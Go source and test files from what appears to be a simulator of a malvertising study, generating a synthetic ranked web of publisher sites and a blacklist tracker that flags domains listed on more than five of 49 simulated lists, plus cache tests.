// Cluster identifies the §4.2 site clusters.
type Cluster string

// Cluster values.
const (
	ClusterTop    Cluster = "top10k"    // Alexa top 10,000
	ClusterBottom Cluster = "bottom10k" // Alexa bottom 10,000
	ClusterOther  Cluster = "other"     // everything else in the dataset
)

// Site is one synthetic publisher website.
type Site struct {
	// Host is the site's www host name, e.g. "www.streamflicks.com".
	Host string
	// Domain is the registered domain, e.g. "streamflicks.com".
	Domain string
	// Rank is the 1-based Alexa-like popularity rank.
	Rank int
	// Category is the content category.
	Category Category
	// TLD is the site's public suffix.
	TLD string
	// AdSlots is how many advertisement iframes the site's page carries.
	// Popular sites monetize much more heavily — this is what makes the
	// top cluster serve ~76% of all observed ads.
	AdSlots int
	// PrimaryNetwork is the index of the ad network the publisher has a
	// contract with (an index into the adnet.Ecosystem's network list).
	PrimaryNetwork int
	// InAVFeed marks sites that the simulated antivirus-company URL feed
	// contains (sites with a history of badness).
	InAVFeed bool
}

// Cluster returns the §4.2 cluster the site belongs to, given the total
// population size.
func (s *Site) Cluster(totalSites int) Cluster {
	switch {
	case s.Rank <= 10_000:
		return ClusterTop
	case s.Rank > totalSites-10_000:
		return ClusterBottom
	default:
		return ClusterOther
	}
}

// Config parameterizes web generation.
type Config struct {
	// NumSites is the total ranked population (the paper's "one million"
	// scaled down; must be > 20,000 so top and bottom clusters are
	// disjoint).
	NumSites int
	// NumNetworks is how many ad networks exist for publisher affiliation.
	NumNetworks int
	// Seed drives all randomness.
	Seed uint64
	// AVFeedFraction is the fraction of sites also present in the AV feed.
	AVFeedFraction float64
	// ShadyNetworkFraction mirrors the ad market's share of weakly-filtered
	// networks (adnet.Config.ShadyFraction): AV-feed sites — pages "that in
	// the past appeared to have a malicious behavior" — skew toward
	// contracts with exactly those networks.
	ShadyNetworkFraction float64
}

// DefaultConfig mirrors the study's scaled-down defaults.
func DefaultConfig() Config {
	return Config{
		NumSites:             30_000,
		NumNetworks:          60,
		Seed:                 1,
		AVFeedFraction:       0.02,
		ShadyNetworkFraction: 0.4,
	}
}

// Web is the generated site population.
type Web struct {
	Sites []*Site // index i holds rank i+1
	cfg   Config
	// byHost indexes sites by host name.
	byHost map[string]*Site
}

// Generate builds the synthetic web.
func Generate(cfg Config) (*Web, error) {
	if cfg.NumSites <= 20_000 {
		return nil, fmt.Errorf("webgen: NumSites must exceed 20000 (top and bottom clusters must be disjoint), got %d", cfg.NumSites)
	}
	if cfg.NumNetworks <= 0 {
		return nil, fmt.Errorf("webgen: NumNetworks must be positive")
	}
	rng := stats.NewRNG(cfg.Seed).Fork("webgen")

	catW := make([]float64, len(categoryWeights))
	for i, cw := range categoryWeights {
		catW[i] = cw.Weight
	}
	catDist := stats.NewWeighted(catW)

	tldW := make([]float64, len(tldWeights))
	for i, tw := range tldWeights {
		tldW[i] = tw.Weight
	}
	tldDist := stats.NewWeighted(tldW)

	// Publishers pick ad networks with a popularity bias: big networks sign
	// most publishers. The exponent matches the ad market's share
	// distribution (adnet uses Zipf 1.3) so that publisher-side affiliation
	// and exchange-side volume agree.
	netDist := stats.NewZipf(cfg.NumNetworks, 1.3)

	w := &Web{
		Sites:  make([]*Site, cfg.NumSites),
		cfg:    cfg,
		byHost: make(map[string]*Site, cfg.NumSites),
	}
	usedDomains := make(map[string]bool, cfg.NumSites)
	for i := 0; i < cfg.NumSites; i++ {
		rank := i + 1
		cat := categoryWeights[catDist.Sample(rng)].Cat
		tld := tldWeights[tldDist.Sample(rng)].TLD

		var domain string
		for {
			domain = siteName(rng, cat) + "." + tld
			if !usedDomains[domain] {
				usedDomains[domain] = true
				break
			}
		}

		s := &Site{
			Host:           "www." + domain,
			Domain:         domain,
			Rank:           rank,
			Category:       cat,
			TLD:            tld,
			AdSlots:        adSlotsForRank(rng, rank, cfg.NumSites),
			PrimaryNetwork: netDist.Sample(rng),
			InAVFeed:       rng.Bool(cfg.AVFeedFraction),
		}
		// Sites with a malicious history (the AV feed) disproportionately
		// monetize through the market's weakly-filtered corner — which is
		// why the paper's AV-company feed was a productive crawl source.
		if s.InAVFeed && cfg.ShadyNetworkFraction > 0 && rng.Bool(0.35) {
			shadyStart := int(float64(cfg.NumNetworks) * (1 - cfg.ShadyNetworkFraction))
			if shadyStart < cfg.NumNetworks {
				s.PrimaryNetwork = shadyStart + rng.Intn(cfg.NumNetworks-shadyStart)
			}
		}
		w.Sites[i] = s
		w.byHost[s.Host] = s
	}
	return w, nil
}

// siteName derives a plausible domain label from the category.
var categoryNameStems = map[Category][]string{
	CatEntertainment: {"stream", "flix", "show", "celeb", "video", "tube"},
	CatNews:          {"news", "daily", "times", "press", "report", "wire"},
	CatAdult:         {"adult", "spicy", "late", "night", "velvet", "blush"},
	CatShopping:      {"shop", "deal", "store", "market", "cart", "bargain"},
	CatSports:        {"sport", "goal", "league", "score", "match", "arena"},
	CatTechnology:    {"tech", "gadget", "byte", "cloud", "dev", "code"},
	CatFinance:       {"bank", "invest", "coin", "trade", "fund", "money"},
	CatGames:         {"game", "play", "pixel", "quest", "arcade", "guild"},
	CatTravel:        {"travel", "trip", "fly", "tour", "hotel", "voyage"},
	CatEducation:     {"learn", "study", "academy", "campus", "tutor", "exam"},
	CatOther:         {"web", "info", "portal", "hub", "zone", "spot"},
}

func siteName(rng *stats.RNG, cat Category) string {
	stems := categoryNameStems[cat]
	return stats.Pick(rng, stems) + rng.RandWord(3, 7)
}

// adSlotsForRank models monetization intensity by popularity. Top sites run
// several slots; tail sites often run one or none. Calibrated so the top-10k
// cluster serves roughly 76% of all ad impressions in a mixed crawl.
func adSlotsForRank(rng *stats.RNG, rank, total int) int {
	switch {
	case rank <= 1_000:
		return 5 + rng.Intn(3) // 5-7
	case rank <= 10_000:
		return 3 + rng.Intn(3) // 3-5
	case rank > total-10_000:
		// Tail sites barely monetize: mean ~0.64 slots.
		n := 0
		if rng.Bool(0.54) {
			n++
		}
		if rng.Bool(0.10) {
			n++
		}
		return n
	default:
		return 1 + rng.Intn(3) // 1-3
	}
}

// ByHost returns the site with the given host, or nil.
func (w *Web) ByHost(host string) *Site { return w.byHost[host] }

// Config returns the configuration the web was generated with.
func (w *Web) Config() Config { return w.cfg }

// TopSlice returns the n most popular sites.
func (w *Web) TopSlice(n int) []*Site {
	if n > len(w.Sites) {
		n = len(w.Sites)
	}
	return w.Sites[:n]
}

// BottomSlice returns the n least popular sites.
func (w *Web) BottomSlice(n int) []*Site {
	if n > len(w.Sites) {
		n = len(w.Sites)
	}
	return w.Sites[len(w.Sites)-n:]
}

// RandomSlice returns n sites sampled without replacement from the middle
// of the ranking (excluding the top and bottom 10k used by the other
// feeds), in rank order.
func (w *Web) RandomSlice(n int, seed uint64) []*Site {
	rng := stats.NewRNG(seed).Fork("randomslice")
	lo, hi := 10_000, len(w.Sites)-10_000
	if hi <= lo {
		return nil
	}
	pool := hi - lo
	if n > pool {
		n = pool
	}
	picked := make(map[int]bool, n)
	var out []*Site
	for len(out) < n {
		idx := lo + rng.Intn(pool)
		if picked[idx] {
			continue
		}
		picked[idx] = true
		out = append(out, w.Sites[idx])
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Rank < out[j].Rank })
	return out
}

// AVFeed returns the sites present in the simulated antivirus-company feed.
func (w *Web) AVFeed() []*Site {
	var out []*Site
	for _, s := range w.Sites {
		if s.InAVFeed {
			out = append(out, s)
		}
	}
	return out
}

// CrawlSet assembles the paper's crawl target list: the top 10k, the bottom
// 10k, a random middle sample, and the AV feed, deduplicated, in rank order.
func (w *Web) CrawlSet(randomN int) []*Site {
	seen := make(map[string]bool)
	var out []*Site
	add := func(sites []*Site) {
		for _, s := range sites {
			if !seen[s.Host] {
				seen[s.Host] = true
				out = append(out, s)
			}
		}
	}
	add(w.TopSlice(10_000))
	add(w.BottomSlice(10_000))
	add(w.RandomSlice(randomN, w.cfg.Seed))
	add(w.AVFeed())
	sort.Slice(out, func(i, j int) bool { return out[i].Rank < out[j].Rank })
	return out
}

// Categories returns the fixed category list in calibration order.
func Categories() []Category {
	out := make([]Category, len(categoryWeights))
	for i, cw := range categoryWeights {
		out[i] = cw.Cat
	}
	return out
}

// TLDs returns the fixed TLD list in calibration order.
func TLDs() []string {
	out := make([]string, len(tldWeights))
	for i, tw := range tldWeights {
		out[i] = tw.TLD
	}
	return out
}
