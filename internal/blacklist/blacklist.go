// Package blacklist implements the malware/phishing blacklist tracker of
// the oracle (§3.2.2). The paper aggregated 49 antivirus, spam, and
// phishing blacklists and — because individual lists are noisy — counted a
// domain as malicious only when it appeared on MORE THAN FIVE lists at the
// same time.
//
// The tracker is populated from the ad ecosystem's ground truth: each
// campaign's domains appear on as many lists as the campaign's ListedOn
// value, spread across randomly chosen providers, with category labels
// (malware/spam/phishing) mimicking real list specialization. Benign
// domains occasionally appear on a few lists (false positives), which is
// exactly the noise the >5 threshold exists to absorb.
package blacklist

import (
	"fmt"
	"sort"
	"strconv"
	"strings"
	"sync"

	"madave/internal/adnet"
	"madave/internal/cachex"
	"madave/internal/stats"
	"madave/internal/telemetry"
	"madave/internal/urlx"
)

// NumLists is the number of aggregated blacklist providers (paper: 49).
const NumLists = 49

// DefaultThreshold is the "more than five lists" rule.
const DefaultThreshold = 5

// Category labels the behaviour a list attributes to a domain.
type Category string

// Categories mirroring the paper's description of domain classification.
const (
	CatMalware  Category = "malware"
	CatSpam     Category = "spam"
	CatPhishing Category = "phishing"
)

// Listing is one list's entry for a domain.
type Listing struct {
	List     string
	Category Category
	// Day is the crawl day the list discovered the domain (0 = known
	// before the crawl started). Blacklists lag behind campaigns in the
	// wild; the temporal mode models that lag.
	Day int
}

// Tracker is the aggregated blacklist oracle. Use Build to populate it
// from an ecosystem, or Add for hand-made fixtures.
type Tracker struct {
	mu sync.RWMutex
	// entries maps registered domain -> listings.
	entries map[string][]Listing
	// Threshold is the minimum number of simultaneous listings for a
	// domain to count as malicious (exclusive: listings must EXCEED it).
	Threshold int
	listNames []string
	// memo caches per-(host, day) listing counts. The count is a pure
	// function of the tracker's contents, so the memo is purged whenever a
	// listing is added; day keys the temporal AsOf variant.
	memo *cachex.Cache[string, int]
}

// DefaultMemoEntries sizes the (host, day) verdict memo. A study touches a
// few thousand distinct hosts per day at most.
const DefaultMemoEntries = 1 << 14

// EnableMemo turns on memoization of per-(host, day) listing counts.
// Call it after the tracker is populated; any later AddOn purges the memo
// so verdicts never go stale.
func (t *Tracker) EnableMemo(entries int, tel *telemetry.Set) {
	if entries <= 0 {
		entries = DefaultMemoEntries
	}
	memo := cachex.New[string, int](cachex.Config{Capacity: entries, Name: "blacklist", Tel: tel})
	t.mu.Lock()
	t.memo = memo
	t.mu.Unlock()
}

// MemoStats reports the memo cache counters; ok is false when the memo is
// disabled.
func (t *Tracker) MemoStats() (st cachex.Stats, ok bool) {
	t.mu.RLock()
	memo := t.memo
	t.mu.RUnlock()
	if memo == nil {
		return cachex.Stats{}, false
	}
	return memo.Stats(), true
}

// New returns an empty tracker with the paper's 49 lists and >5 threshold.
func New() *Tracker {
	names := make([]string, NumLists)
	for i := range names {
		names[i] = fmt.Sprintf("bl-%02d", i)
	}
	return &Tracker{
		entries:   make(map[string][]Listing),
		Threshold: DefaultThreshold,
		listNames: names,
	}
}

// Build populates a tracker from the ecosystem's ground truth, with every
// listing known from day 0 (the steady-state oracle the paper used after
// its three-month crawl).
func Build(eco *adnet.Ecosystem, seed uint64) *Tracker {
	return BuildTemporal(eco, seed, 0)
}

// BuildTemporal populates a tracker whose listings are discovered over the
// crawl: each domain's listings appear on days drawn uniformly from
// [0, maxLagDays]. With a positive lag, early crawl days miss blacklist
// detections that later days catch — the provider-lag dynamic that makes
// longitudinal crawls worthwhile. maxLagDays 0 reduces to Build.
func BuildTemporal(eco *adnet.Ecosystem, seed uint64, maxLagDays int) *Tracker {
	t := New()
	rng := stats.NewRNG(seed).Fork("blacklist")
	for _, c := range eco.Campaigns {
		if c.ListedOn <= 0 {
			continue
		}
		cat := categoryForKind(c.Kind)
		// The campaign's hosts (creative/landing/payload) share one
		// registered domain; list that domain once so ground truth and
		// tracker counts agree. One list of jitter models providers
		// tracking each other imperfectly — bounded so it cannot push a
		// sub-threshold domain over the line.
		seen := map[string]bool{}
		for _, host := range []string{c.CreativeHost, c.LandingHost, c.PayloadHost} {
			if host == "" {
				continue
			}
			domain := urlx.RegisteredDomain(host)
			if domain == "" || seen[domain] {
				continue
			}
			seen[domain] = true
			n := c.ListedOn
			if n > 1 && rng.Bool(0.5) {
				n-- // jitter only shrinks: never crosses the threshold
			}
			if n > NumLists {
				n = NumLists
			}
			day := 0
			if maxLagDays > 0 {
				day = rng.Intn(maxLagDays + 1)
			}
			t.addRandomListings(rng, host, n, cat, day)
		}
	}
	return t
}

func categoryForKind(k adnet.Kind) Category {
	switch k {
	case adnet.KindDriveBy, adnet.KindDeceptive, adnet.KindMaliciousFlash:
		return CatMalware
	case adnet.KindLinkHijack, adnet.KindCloaking:
		return CatPhishing
	default:
		return CatSpam
	}
}

// addRandomListings puts host's registered domain on n distinct lists,
// all discovered on the given day.
func (t *Tracker) addRandomListings(rng *stats.RNG, host string, n int, cat Category, day int) {
	perm := rng.Perm(NumLists)
	for i := 0; i < n && i < len(perm); i++ {
		t.AddOn(host, t.listNames[perm[i]], cat, day)
	}
}

// Add records that the given list carries the host's registered domain,
// known from day 0. Duplicate (domain, list) pairs are ignored.
func (t *Tracker) Add(host, list string, cat Category) {
	t.AddOn(host, list, cat, 0)
}

// AddOn records a listing discovered on the given crawl day.
func (t *Tracker) AddOn(host, list string, cat Category, day int) {
	domain := urlx.RegisteredDomain(host)
	if domain == "" {
		domain = strings.ToLower(host)
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	if t.memo != nil {
		// Memoized counts are pure functions of the entries map; adding a
		// listing invalidates them wholesale.
		t.memo.Purge()
	}
	for _, l := range t.entries[domain] {
		if l.List == list {
			return
		}
	}
	t.entries[domain] = append(t.entries[domain], Listing{List: list, Category: cat, Day: day})
}

// Listings returns how many lists carry the host's registered domain.
func (t *Tracker) Listings(host string) int {
	return t.ListingsAsOf(host, int(^uint(0)>>1))
}

// ListingsAsOf counts listings already discovered by the given crawl day.
// With the memo enabled, repeated (host, day) lookups — the common case on
// a repetitive ad stream — skip both the registered-domain parse and the
// listing walk.
func (t *Tracker) ListingsAsOf(host string, day int) int {
	t.mu.RLock()
	memo := t.memo
	t.mu.RUnlock()
	if memo == nil {
		return t.countAsOf(host, day)
	}
	// Append-built day key ("host|day"): one allocation for the final
	// string, with the bytes assembled in a stack buffer.
	var buf [80]byte
	b := append(buf[:0], host...)
	b = append(b, '|')
	b = strconv.AppendInt(b, int64(day), 10)
	n, _ := memo.GetOrLoad(string(b), func() (int, error) {
		return t.countAsOf(host, day), nil
	})
	return n
}

func (t *Tracker) countAsOf(host string, day int) int {
	domain := urlx.RegisteredDomain(host)
	if domain == "" {
		domain = strings.ToLower(host)
	}
	t.mu.RLock()
	defer t.mu.RUnlock()
	n := 0
	for _, l := range t.entries[domain] {
		if l.Day <= day {
			n++
		}
	}
	return n
}

// IsMalicious applies the paper's rule: listed on MORE THAN Threshold
// lists simultaneously.
func (t *Tracker) IsMalicious(host string) bool {
	return t.Listings(host) > t.Threshold
}

// IsMaliciousAsOf applies the rule with only the listings known by day.
func (t *Tracker) IsMaliciousAsOf(host string, day int) bool {
	return t.ListingsAsOf(host, day) > t.Threshold
}

// AnyMalicious reports whether any of the hosts crosses the threshold and
// returns the first offender.
func (t *Tracker) AnyMalicious(hosts []string) (string, bool) {
	for _, h := range hosts {
		if t.IsMalicious(h) {
			return h, true
		}
	}
	return "", false
}

// AnyMaliciousAsOf is AnyMalicious restricted to listings known by day.
func (t *Tracker) AnyMaliciousAsOf(hosts []string, day int) (string, bool) {
	for _, h := range hosts {
		if t.IsMaliciousAsOf(h, day) {
			return h, true
		}
	}
	return "", false
}

// Categories returns the categories the host's listings assert, sorted.
func (t *Tracker) Categories(host string) []Category {
	domain := urlx.RegisteredDomain(host)
	if domain == "" {
		domain = strings.ToLower(host)
	}
	t.mu.RLock()
	defer t.mu.RUnlock()
	seen := map[Category]bool{}
	for _, l := range t.entries[domain] {
		seen[l.Category] = true
	}
	out := make([]Category, 0, len(seen))
	for c := range seen {
		out = append(out, c)
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// Size returns how many distinct domains the tracker carries.
func (t *Tracker) Size() int {
	t.mu.RLock()
	defer t.mu.RUnlock()
	return len(t.entries)
}
