package blacklist

import "testing"

// BenchmarkListingsAsOfMemo exercises the append-built "host|day" memo key
// on a warm memo, the per-ad hot path of the lag tracker.
func BenchmarkListingsAsOfMemo(b *testing.B) {
	tr := New()
	tr.EnableMemo(1024, nil)
	tr.AddOn("malware.example.net", "bl-00", CatMalware, 1)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		tr.ListingsAsOf("www.malware.example.net", 5)
	}
}
