package blacklist

import (
	"fmt"
	"sync"
	"testing"
)

// populate lists host on n lists, all known from day `day`.
func populate(t *Tracker, host string, n, day int) {
	for i := 0; i < n; i++ {
		t.AddOn(host, fmt.Sprintf("bl-%02d", i), CatMalware, day)
	}
}

// TestMemoMatchesDirect asserts the memoized verdict path agrees with a
// memo-less tracker over hosts, days, and the threshold boundary.
func TestMemoMatchesDirect(t *testing.T) {
	plain, memod := New(), New()
	for _, tr := range []*Tracker{plain, memod} {
		populate(tr, "www.bad-ads.com", 8, 0)
		populate(tr, "www.edge-case.com", 6, 2) // crosses >5 only from day 2
		populate(tr, "www.noisy.com", 3, 0)
	}
	memod.EnableMemo(0, nil)

	hosts := []string{"www.bad-ads.com", "www.edge-case.com", "www.noisy.com", "www.clean.com"}
	for pass := 0; pass < 2; pass++ { // second pass runs fully memoized
		for _, h := range hosts {
			for day := 0; day < 4; day++ {
				if got, want := memod.IsMaliciousAsOf(h, day), plain.IsMaliciousAsOf(h, day); got != want {
					t.Fatalf("pass %d %s day %d: memo %v, direct %v", pass, h, day, got, want)
				}
			}
			if got, want := memod.IsMalicious(h), plain.IsMalicious(h); got != want {
				t.Fatalf("pass %d %s: memo %v, direct %v", pass, h, got, want)
			}
		}
	}
	st, ok := memod.MemoStats()
	if !ok || st.Hits == 0 {
		t.Fatalf("memo never hit: %+v", st)
	}
}

// TestMemoPurgedOnAdd pins the invalidation contract: adding a listing
// after lookups must not serve a stale count.
func TestMemoPurgedOnAdd(t *testing.T) {
	tr := New()
	populate(tr, "www.latecomer.com", 5, 0)
	tr.EnableMemo(0, nil)
	if tr.IsMalicious("www.latecomer.com") {
		t.Fatal("5 listings should not cross >5")
	}
	tr.AddOn("www.latecomer.com", "bl-40", CatMalware, 0)
	if !tr.IsMalicious("www.latecomer.com") {
		t.Fatal("memo served a stale sub-threshold verdict")
	}
}

// TestMemoConcurrent storms the memo under -race; every answer must match
// the pure count for its (host, day).
func TestMemoConcurrent(t *testing.T) {
	tr := New()
	// Distinct registered domains: hostNN.exNN.com, not NN.example.com
	// (which would all collapse onto example.com's listing set).
	for i := 0; i < 40; i++ {
		populate(tr, fmt.Sprintf("host.ex%02d.com", i), i%12, 0)
	}
	tr.EnableMemo(64, nil) // smaller than the keyspace: exercises eviction
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 2000; i++ {
				n := (i*5 + w*11) % 40
				host := fmt.Sprintf("host.ex%02d.com", n)
				if got, want := tr.Listings(host), n%12; got != want {
					t.Errorf("%s: memo %d, truth %d", host, got, want)
					return
				}
			}
		}(w)
	}
	wg.Wait()
}
