package blacklist

import (
	"testing"

	"madave/internal/adnet"
)

func TestAddAndThreshold(t *testing.T) {
	tr := New()
	host := "ads.freeprizes.com"
	for i := 0; i < 5; i++ {
		tr.Add(host, tr.listNames[i], CatSpam)
	}
	if tr.Listings(host) != 5 {
		t.Fatalf("listings = %d", tr.Listings(host))
	}
	if tr.IsMalicious(host) {
		t.Fatal("exactly 5 lists must NOT be malicious (threshold is exclusive)")
	}
	tr.Add(host, tr.listNames[5], CatSpam)
	if !tr.IsMalicious(host) {
		t.Fatal("6 lists must be malicious")
	}
}

func TestDuplicateListIgnored(t *testing.T) {
	tr := New()
	tr.Add("x.example.com", "bl-00", CatMalware)
	tr.Add("x.example.com", "bl-00", CatSpam)
	if tr.Listings("x.example.com") != 1 {
		t.Fatalf("listings = %d", tr.Listings("x.example.com"))
	}
}

func TestRegisteredDomainAggregation(t *testing.T) {
	tr := New()
	tr.Add("ads.evil.example.com", "bl-00", CatMalware)
	tr.Add("www.evil.example.com", "bl-01", CatMalware)
	// Both subdomains share the registered domain example.com... actually
	// evil.example.com's registered domain is example.com. All listings
	// aggregate there.
	if tr.Listings("other.example.com") != 2 {
		t.Fatalf("listings = %d, want aggregation by registered domain", tr.Listings("other.example.com"))
	}
}

func TestAnyMalicious(t *testing.T) {
	tr := New()
	for i := 0; i < 7; i++ {
		tr.Add("bad.evil.net", tr.listNames[i], CatPhishing)
	}
	offender, ok := tr.AnyMalicious([]string{"clean.example.com", "www.evil.net", "other.org"})
	if !ok || offender != "www.evil.net" {
		t.Fatalf("offender = %q ok=%v", offender, ok)
	}
	if _, ok := tr.AnyMalicious([]string{"clean.example.com"}); ok {
		t.Fatal("clean hosts flagged")
	}
}

func TestCategories(t *testing.T) {
	tr := New()
	tr.Add("multi.example.com", "bl-00", CatMalware)
	tr.Add("multi.example.com", "bl-01", CatPhishing)
	tr.Add("multi.example.com", "bl-02", CatMalware)
	cats := tr.Categories("multi.example.com")
	if len(cats) != 2 || cats[0] != CatMalware || cats[1] != CatPhishing {
		t.Fatalf("categories = %v", cats)
	}
}

func TestBuildFromEcosystem(t *testing.T) {
	eco, err := adnet.Generate(adnet.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	tr := Build(eco, 42)
	if tr.Size() == 0 {
		t.Fatal("tracker empty")
	}

	blacklistedDetected, blacklistedTotal := 0, 0
	for _, c := range eco.Campaigns {
		switch c.Kind {
		case adnet.KindBlacklisted:
			blacklistedTotal++
			if tr.IsMalicious(c.CreativeHost) || tr.IsMalicious(c.LandingHost) {
				blacklistedDetected++
			}
		case adnet.KindBenign:
			if tr.IsMalicious(c.CreativeHost) {
				t.Fatalf("benign campaign %s crosses the >5 threshold (ListedOn=%d)", c.ID, c.ListedOn)
			}
		case adnet.KindDriveBy, adnet.KindDeceptive:
			if tr.IsMalicious(c.PayloadHost) {
				t.Fatalf("payload campaign %s should stay under the blacklist radar", c.ID)
			}
		}
	}
	if blacklistedDetected < blacklistedTotal*9/10 {
		t.Fatalf("only %d/%d blacklisted campaigns detected", blacklistedDetected, blacklistedTotal)
	}
}

func TestBuildDeterministic(t *testing.T) {
	eco, _ := adnet.Generate(adnet.DefaultConfig())
	a := Build(eco, 7)
	b := Build(eco, 7)
	for _, c := range eco.Campaigns {
		if a.Listings(c.CreativeHost) != b.Listings(c.CreativeHost) {
			t.Fatalf("listings differ for %s", c.CreativeHost)
		}
	}
}

func TestUnparsableHostFallback(t *testing.T) {
	tr := New()
	tr.Add("localhost", "bl-00", CatSpam)
	if tr.Listings("localhost") != 1 {
		t.Fatal("single-label hosts should still be trackable")
	}
}

func TestTemporalListings(t *testing.T) {
	tr := New()
	for i := 0; i < 8; i++ {
		tr.AddOn("late.evil.net", tr.listNames[i], CatMalware, i) // one list per day
	}
	if tr.IsMaliciousAsOf("www.evil.net", 3) {
		t.Fatal("only 4 listings known by day 3")
	}
	if !tr.IsMaliciousAsOf("www.evil.net", 6) {
		t.Fatal("7 listings known by day 6 should cross >5")
	}
	if !tr.IsMalicious("www.evil.net") {
		t.Fatal("steady-state view should see all 8")
	}
	if tr.ListingsAsOf("www.evil.net", 0) != 1 {
		t.Fatalf("day-0 listings = %d", tr.ListingsAsOf("www.evil.net", 0))
	}
}

func TestBuildTemporalLag(t *testing.T) {
	eco, err := adnet.Generate(adnet.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	const lag = 30
	tr := BuildTemporal(eco, 42, lag)

	day0, dayEnd := 0, 0
	for _, c := range eco.Campaigns {
		if c.Kind != adnet.KindBlacklisted {
			continue
		}
		if tr.IsMaliciousAsOf(c.CreativeHost, 0) {
			day0++
		}
		if tr.IsMaliciousAsOf(c.CreativeHost, lag) {
			dayEnd++
		}
	}
	if dayEnd == 0 {
		t.Fatal("no detections even at the end of the lag window")
	}
	// With listings spread over 30 days, day 0 must see meaningfully fewer
	// threshold crossings than day 30.
	if day0 >= dayEnd {
		t.Fatalf("no lag effect: day0=%d dayEnd=%d", day0, dayEnd)
	}
	// Zero lag reduces to the static build.
	static := Build(eco, 42)
	for _, c := range eco.Campaigns {
		if c.Kind == adnet.KindBlacklisted && !static.IsMaliciousAsOf(c.CreativeHost, 0) && static.IsMalicious(c.CreativeHost) {
			t.Fatal("static build should know everything on day 0")
		}
	}
}

func TestAnyMaliciousAsOf(t *testing.T) {
	tr := New()
	for i := 0; i < 7; i++ {
		tr.AddOn("slow.bad.org", tr.listNames[i], CatSpam, 5)
	}
	if _, hit := tr.AnyMaliciousAsOf([]string{"clean.example.com", "x.bad.org"}, 2); hit {
		t.Fatal("nothing known by day 2")
	}
	offender, hit := tr.AnyMaliciousAsOf([]string{"clean.example.com", "x.bad.org"}, 5)
	if !hit || offender != "x.bad.org" {
		t.Fatalf("offender = %q hit=%v", offender, hit)
	}
}
