package cachex

import (
	"errors"
	"fmt"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"madave/internal/telemetry"
)

func TestGetPut(t *testing.T) {
	c := New[string, int](Config{Capacity: 8, Shards: 1, Name: "t"})
	if _, ok := c.Get("a"); ok {
		t.Fatal("hit on empty cache")
	}
	c.Put("a", 1)
	if v, ok := c.Get("a"); !ok || v != 1 {
		t.Fatalf("got %d,%v want 1,true", v, ok)
	}
	c.Put("a", 2) // refresh in place
	if v, _ := c.Get("a"); v != 2 {
		t.Fatalf("refresh lost: %d", v)
	}
	if c.Len() != 1 {
		t.Fatalf("Len = %d", c.Len())
	}
	st := c.Stats()
	if st.Hits != 2 || st.Misses != 1 || st.Stores != 1 {
		t.Fatalf("stats %+v", st)
	}
	if got := st.HitRatio(); got < 0.66 || got > 0.67 {
		t.Fatalf("hit ratio %f", got)
	}
}

// TestLRUEvictionOrder pins the eviction policy: least recently USED goes
// first, and a Get refreshes recency.
func TestLRUEvictionOrder(t *testing.T) {
	c := New[string, int](Config{Capacity: 3, Shards: 1})
	c.Put("a", 1)
	c.Put("b", 2)
	c.Put("c", 3)
	c.Get("a")    // a is now most recent; b is LRU
	c.Put("d", 4) // evicts b
	if _, ok := c.Get("b"); ok {
		t.Fatal("b survived eviction")
	}
	for _, k := range []string{"a", "c", "d"} {
		if _, ok := c.Get(k); !ok {
			t.Fatalf("%s evicted out of order", k)
		}
	}
	if st := c.Stats(); st.Evictions != 1 {
		t.Fatalf("evictions = %d", st.Evictions)
	}
	// Continue filling: c is LRU now (a, c, d order after the gets above is
	// d most recent? no: gets ran a,c,d so a is LRU).
	c.Put("e", 5)
	if _, ok := c.Get("a"); ok {
		t.Fatal("a should be the second eviction")
	}
}

// TestSingleFlight asserts the coalescing contract: N concurrent loads of
// one key run the loader exactly once and share its value.
func TestSingleFlight(t *testing.T) {
	c := New[string, int](Config{Capacity: 8})
	var calls atomic.Int64
	started := make(chan struct{})
	release := make(chan struct{})

	const waiters = 16
	var wg sync.WaitGroup
	results := make([]int, waiters)
	for i := 0; i < waiters; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			v, err := c.GetOrLoad("k", func() (int, error) {
				calls.Add(1)
				close(started)
				<-release
				return 42, nil
			})
			if err != nil {
				t.Errorf("load error: %v", err)
			}
			results[i] = v
		}(i)
	}
	<-started
	// Give the other goroutines a moment to pile onto the flight.
	time.Sleep(10 * time.Millisecond)
	close(release)
	wg.Wait()

	if n := calls.Load(); n != 1 {
		t.Fatalf("loader ran %d times", n)
	}
	for i, v := range results {
		if v != 42 {
			t.Fatalf("waiter %d got %d", i, v)
		}
	}
	st := c.Stats()
	if st.Coalesced == 0 {
		t.Fatal("no coalesced waiters recorded")
	}
	if st.Stores != 1 {
		t.Fatalf("stores = %d", st.Stores)
	}
}

// TestGetOrLoadStorm hammers the cache from many goroutines under -race:
// every returned value must equal the pure function of its key, whatever
// the interleaving, eviction pressure, or coalescing.
func TestGetOrLoadStorm(t *testing.T) {
	c := New[string, int](Config{Capacity: 64, Shards: 4}) // smaller than keyspace: forces eviction
	f := func(k string) int { return len(k) * 7 }

	const workers = 16
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 2000; i++ {
				k := fmt.Sprintf("key-%d", (i*7+w*13)%200)
				v, err := c.GetOrLoad(k, func() (int, error) { return f(k), nil })
				if err != nil {
					t.Errorf("load: %v", err)
					return
				}
				if v != f(k) {
					t.Errorf("key %s: got %d want %d", k, v, f(k))
					return
				}
			}
		}(w)
	}
	wg.Wait()
	st := c.Stats()
	if st.Lookups() != workers*2000 {
		t.Fatalf("lookups = %d", st.Lookups())
	}
	if st.Evictions == 0 {
		t.Fatal("storm did not exercise eviction")
	}
}

func TestGenerationTTL(t *testing.T) {
	c := New[string, int](Config{Capacity: 8, Shards: 1, TTLGenerations: 2})
	c.Put("a", 1)
	c.Advance()
	if _, ok := c.Get("a"); !ok {
		t.Fatal("expired one generation early")
	}
	c.Advance()
	if _, ok := c.Get("a"); ok {
		t.Fatal("survived past TTL")
	}
	if st := c.Stats(); st.Expired != 1 {
		t.Fatalf("expired = %d", st.Expired)
	}
	// A fresh store after expiry lives a full TTL again.
	c.Put("a", 2)
